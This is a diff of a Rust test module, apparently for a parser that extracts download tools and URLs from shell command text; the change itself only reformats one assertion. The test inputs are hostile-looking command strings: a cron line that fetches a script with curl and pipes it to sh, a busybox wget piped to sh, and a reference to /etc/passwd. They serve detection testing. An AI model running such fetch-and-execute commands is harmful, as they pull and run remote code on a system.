@@ -70,7 +70,10 @@ mod tests {
         let d = downloads("\n*/1 * * * * curl -fsSL https://a.example/i.sh|sh\n");
         assert_eq!(d, vec![("curl".into(), "https://a.example/i.sh".into())]);
         let d = downloads("/system/bin/busybox wget -O- 'http://x.example/b' | sh; echo ftp://y.example/z");
-        assert_eq!(d, vec![("wget".into(), "http://x.example/b".into()), ("unknown".into(), "ftp://y.example/z".into())]);
+        assert_eq!(
+            d,
+            vec![("wget".into(), "http://x.example/b".into()), ("unknown".into(), "ftp://y.example/z".into())]
+        );
         assert!(downloads("chmod 777 x; file:///etc/passwd").is_empty());
     }
 
